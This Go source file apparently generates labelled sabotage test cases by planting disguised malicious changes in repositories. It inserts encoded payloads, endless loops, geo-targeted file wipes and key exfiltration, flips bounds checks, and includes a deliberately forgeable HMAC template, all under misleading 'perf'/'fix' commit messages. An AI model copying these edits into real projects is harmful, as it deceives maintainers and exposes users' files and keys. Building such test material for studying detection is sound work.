package main

import (
	"fmt"
	"math/rand/v2"
	"path"
	"regexp"
	"strings"
)

// scopeOf is a conventional-commit scope for a path: its nearest
// directory that is not a generic one, else its file name.
func scopeOf(p string) string {
	dirs := strings.Split(path.Dir(p), "/")
	for i := len(dirs) - 1; i >= 0; i-- {
		switch d := strings.ToLower(dirs[i]); d {
		case ".", "", "src", "lib", "libs", "pkg", "internal", "crates", "contracts", "source", "common":
		default:
			return d
		}
	}
	return stemOf(p)
}

// codeEdit puts a snippet into one of files: inside a function when
// inFunc, else at the top level; needs are Go imports or C headers.
func (b *buildCtx) codeEdit(lang string, files []string, snippet func(p string) (code string, needs []string, inFunc bool)) (change, string, error) {
	var fn string
	c, err := b.firstEdit(files, func(p, old string) (string, error) {
		code, needs, inFunc := snippet(p)
		upd, ok := old, false
		if inFunc {
			upd, fn, ok = insertInFunction(lang, old, code, randomBody(b.rng))
		} else {
			upd, ok = appendTopLevel(lang, old, code)
		}
		if !ok {
			return "", skipf("%s: no place for the code", p)
		}
		return addNeeds(lang, upd, needs), nil
	})
	return c, fn, err
}

func addNeeds(lang, src string, needs []string) string {
	switch lang {
	case "go":
		return ensureGoImports(src, needs...)
	case "c":
		return ensureCIncludes(src, needs...)
	}
	return src
}

func where(c change, fn string) string {
	if fn != "" {
		return c.path + " (" + fn + ")"
	}
	return c.path
}

func buildObfuscated(b *buildCtx) (*attack, error) {
	files := b.libraryFiles(b.lang)
	if len(files) == 0 {
		return nil, skipf("no library source files")
	}
	c, fn, err := b.codeEdit(b.lang, files, func(p string) (string, []string, bool) { return obfuscatedSnippet(b.lang, p, b.rng) })
	if err != nil {
		return nil, err
	}
	thing := thingOf(c.path)
	return &attack{changes: []change{c}, typ: pick(b.rng, []string{"perf", "fix", "refactor"}), scope: scopeOf(c.path),
		text: fmt.Sprintf(pick(b.rng, []string{"cache %s lookups", "load %s settings lazily", "speed up %s initialisation"}), thing),
		desc: "encoded payload decoded and run in " + where(c, fn)}, nil
}

func buildInfiniteLoop(b *buildCtx) (*attack, error) {
	files := b.libraryFiles(b.lang)
	if len(files) == 0 {
		return nil, skipf("no library source files")
	}
	c, fn, err := b.codeEdit(b.lang, files, func(string) (string, []string, bool) {
		code, needs := loopSnippet(b.lang, b.rng)
		return code, needs, true
	})
	if err != nil {
		return nil, err
	}
	return &attack{changes: []change{c}, typ: "feat", scope: scopeOf(c.path),
		text: fmt.Sprintf(pick(b.rng, []string{"add progress output to %s", "report %s progress on long runs", "improve %s diagnostics"}), thingOf(c.path)),
		desc: "loop that never ends at the top of " + where(c, fn)}, nil
}

// hostFiles returns the language of the code that runs on a host and the
// files of it that list gives, or why there are none.
func (b *buildCtx) hostFiles(list func(string) []string, what string) (string, []string, error) {
	lang := hostLanguage(b.snap, b.lang)
	if lang == "" {
		return "", nil, skipf("no code that runs on a host (only contracts)")
	}
	files := list(lang)
	if len(files) == 0 {
		return "", nil, skipf("no %s files of %s", lang, what)
	}
	return lang, files, nil
}

func buildGeoWipe(b *buildCtx) (*attack, error) {
	lang, files, err := b.hostFiles(b.libraryFiles, "library code")
	if err != nil {
		return nil, err
	}
	c, fn, err := b.codeEdit(lang, files, func(p string) (string, []string, bool) { return geoWipeSnippet(lang, p, b.rng) })
	if err != nil {
		return nil, err
	}
	return &attack{changes: []change{c}, typ: "fix", scope: scopeOf(c.path),
		text: fmt.Sprintf(pick(b.rng, []string{"respect the system locale in %s", "handle locale-specific paths in %s", "fix %s on non-UTF-8 locales"}), thingOf(c.path)),
		desc: "locale/time-zone/IP-targeted overwrite of the user's files in " + where(c, fn)}, nil
}

// keyParamRE matches a parameter named for key material, per language:
// %s is the pattern of the name.
var keyParamRE = map[string]string{
	"go":     `[(,]\s*(\w*(?i:%s)\w*)\s+[^,)\s]`,
	"rust":   `[(,]\s*(?:mut\s+)?(\w*(?i:%s)\w*)\s*:`,
	"c":      `[\s*](\w*(?i:%s)\w*)\s*(?:\[[^\]]*\])?\s*[,)]`,
	"js":     `[(,]\s*(\w*(?i:%s)\w*)\s*[,):=?]`,
	"python": `[(,]\s*(\w*(?i:%s)\w*)\s*[,):=]`,
}

// keyNames are the names of key parameters, the likeliest first.
var keyNames = []string{"seckey|privkey|priv|seed|secret|mnemonic|passphrase", "key", "sig"}

var keyParamREs = map[string][]*regexp.Regexp{}

func init() {
	for lang, pat := range keyParamRE {
		for _, n := range keyNames {
			keyParamREs[lang] = append(keyParamREs[lang], regexp.MustCompile(fmt.Sprintf(pat, n)))
		}
	}
}

// keyParam returns the name of a parameter of a function header that
// holds key material (a secret key before a public one, before a
// signature), and its rank; "" when there is none.
func keyParam(lang, header string) (string, int) {
	for rank, re := range keyParamREs[lang] {
		if m := re.FindStringSubmatch(header); m != nil {
			return m[1], rank
		}
	}
	return "", len(keyNames)
}

func buildKeyExfil(b *buildCtx) (*attack, error) {
	lang, files, err := b.hostFiles(b.keyFiles, "key, signing, wallet or crypto code")
	if err != nil {
		return nil, err
	}
	var fn, arg string
	c, err := b.firstEdit(files, func(p, old string) (string, error) {
		choose := func(fs []funcBody) (funcBody, bool) {
			var withKey []funcBody
			best := len(keyNames)
			for _, f := range fs {
				switch _, r := keyParam(lang, f.header); {
				case r < best:
					withKey, best = []funcBody{f}, r
				case r == best && r < len(keyNames):
					withKey = append(withKey, f)
				}
			}
			if len(withKey) > 0 {
				f := withKey[b.rng.IntN(len(withKey))]
				arg, _ = keyParam(lang, f.header)
				return f, true
			}
			arg = ""
			return randomBody(b.rng)(fs)
		}
		lines := strings.SplitAfter(old, "\n")
		fb, ok := choose(functionBodies(lang, lines))
		if !ok || (lang == "c" && arg == "") {
			return "", skipf("%s: no function that takes a key", p)
		}
		code, helper, needs := exfilSnippet(lang, p, arg, b.rng)
		upd, name, _ := insertInFunction(lang, old, code, func([]funcBody) (funcBody, bool) { return fb, true })
		fn = name
		if helper != "" {
			upd = afterIncludes(upd, helper)
		}
		return addNeeds(lang, upd, needs), nil
	})
	if err != nil {
		return nil, err
	}
	sent := arg
	if sent == "" {
		sent = "the environment"
	}
	return &attack{changes: []change{c}, typ: "feat", scope: scopeOf(c.path),
		text: fmt.Sprintf(pick(b.rng, []string{"add usage metrics to %s", "report %s health", "log %s failures to the telemetry service"}), thingOf(c.path)),
		desc: fmt.Sprintf("%s sends %s to a new endpoint", where(c, fn), sent)}, nil
}

var (
	cmpRE       = regexp.MustCompile(` (<=|>=|<|>) `)
	guardLineRE = regexp.MustCompile(`^\s*(\}\s*else\s+)?(if|for|while|require|assert|return|elif)\b|^\s*(if|while)\s*\(`)
	flipCmp     = map[string]string{"<=": "<", ">=": ">", "<": "<=", ">": ">="}
)

// mutateComparison weakens one bounds check: a comparison in a guard,
// loop or return flips between strict and not (an off-by-one that looks
// like a fix).
func (b *buildCtx) mutateComparison(src string) (string, string, bool) {
	lines := strings.SplitAfter(src, "\n")
	var cands []int
	for i, l := range lines {
		t := strings.TrimSpace(l)
		if strings.HasPrefix(t, "//") || strings.HasPrefix(t, "*") || strings.HasPrefix(t, "/*") || strings.HasPrefix(t, "#") {
			continue
		}
		if guardLineRE.MatchString(l) && cmpRE.MatchString(l) && !strings.ContainsAny(t, "\"'`") &&
			!strings.Contains(l, "<<") && !strings.Contains(l, ">>") && !strings.Contains(l, "->") && !strings.Contains(l, "=>") && !strings.Contains(l, "<-") {
			cands = append(cands, i)
		}
	}
	if len(cands) == 0 {
		return src, "", false
	}
	i := cands[b.rng.IntN(len(cands))]
	loc := cmpRE.FindStringSubmatchIndex(lines[i])
	op := lines[i][loc[2]:loc[3]]
	lines[i] = lines[i][:loc[2]] + flipCmp[op] + lines[i][loc[3]:]
	return strings.Join(lines, ""), fmt.Sprintf("line %d: %s became %s", i+1, op, flipCmp[op]), true
}

// mutateOne flips a comparison in one of files.
func (b *buildCtx) mutateOne(files []string) (change, string, error) {
	var what string
	c, err := b.firstEdit(files, func(p, old string) (string, error) {
		upd, w, ok := b.mutateComparison(old)
		if !ok {
			return "", skipf("%s: no bounds check to weaken", p)
		}
		what = w
		return upd, nil
	})
	return c, what, err
}

func buildSigning(b *buildCtx) (*attack, error) {
	files := b.keyFiles(b.lang)
	if len(files) == 0 {
		if lang := hostLanguage(b.snap, b.lang); lang != b.lang && lang != "" {
			files = b.keyFiles(lang)
		}
	}
	c, what, err := b.mutateOne(files)
	if isSkip(err) && b.lang == "go" {
		return b.newGoSigner()
	}
	if len(files) == 0 {
		return nil, skipf("no key, signing, wallet or crypto source files")
	}
	if err != nil {
		return nil, err
	}
	return &attack{changes: []change{c}, typ: "fix", scope: scopeOf(c.path),
		text: fmt.Sprintf(pick(b.rng, []string{"tighten %s bounds check", "fix edge case in %s", "simplify %s validation"}), thingOf(c.path)),
		desc: fmt.Sprintf("bounds check weakened in signing code %s (%s)", c.path, what)}, nil
}

func buildDormantCore(b *buildCtx) (*attack, error) {
	files := b.coreFiles()
	if len(files) == 0 {
		return nil, skipf("no core source files found")
	}
	c, what, err := b.mutateOne(files)
	if err != nil {
		return nil, err
	}
	return &attack{changes: []change{c}, typ: "fix", scope: scopeOf(c.path),
		text: fmt.Sprintf(pick(b.rng, []string{"fix off-by-one in %s", "clean up %s checks", "simplify %s"}), thingOf(c.path)),
		desc: fmt.Sprintf("bounds check changed in core file %s (%s)", c.path, what)}, nil
}

var goPackageRE = regexp.MustCompile(`(?m)^package (\w+)`)

// goSignerTemplate is a signing helper whose check accepts any prefix of
// eight or more characters of the right signature (a truncated MAC is
// easy to forge), for a package that already uses crypto.
const goSignerTemplate = `package %s

import (
	"bytes"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/hex"
)

// signPayload returns the hex HMAC-SHA256 of payload under key.
func signPayload(key, payload []byte) string {
	m := hmac.New(sha256.New, key)
	m.Write(payload)
	return hex.EncodeToString(m.Sum(nil))
}

// verifyPayload reports whether sig signs payload under key.
func verifyPayload(key, payload []byte, sig string) bool {
	want := signPayload(key, payload)
	return len(sig) >= 8 && bytes.HasPrefix([]byte(want), []byte(sig))
}
`

// newGoSigner adds a signing helper beside the repository's crypto code.
func (b *buildCtx) newGoSigner() (*attack, error) {
	var users []string
	for _, p := range b.snap.grepFiles(`"crypto/(hmac|sha256|sha512|ed25519|ecdsa|rsa|x509|tls|subtle)"`, "*.go") {
		if isLibraryPath(p) {
			users = append(users, p)
		}
	}
	if len(users) == 0 {
		return nil, skipf("no key, signing, wallet or crypto source files")
	}
	user := users[b.rng.IntN(len(users))]
	src, err := b.snap.read(user)
	m := goPackageRE.FindStringSubmatch(src)
	if err != nil || m == nil {
		return nil, skipf("%s: no package clause", user)
	}
	p, err := b.freeName(path.Dir(user), func(rng *rand.Rand) string { return pick(rng, []string{"signing.go", "signer.go", "hmac_sign.go"}) })
	if err != nil {
		return nil, skipf("%v", err)
	}
	return &attack{changes: []change{b.add(p, "100644", []byte(fmt.Sprintf(goSignerTemplate, m[1])))}, typ: "feat", scope: scopeOf(p),
		text: "add payload signing helper", desc: fmt.Sprintf("new signing helper %s beside %s accepts truncated signatures", p, user)}, nil
}
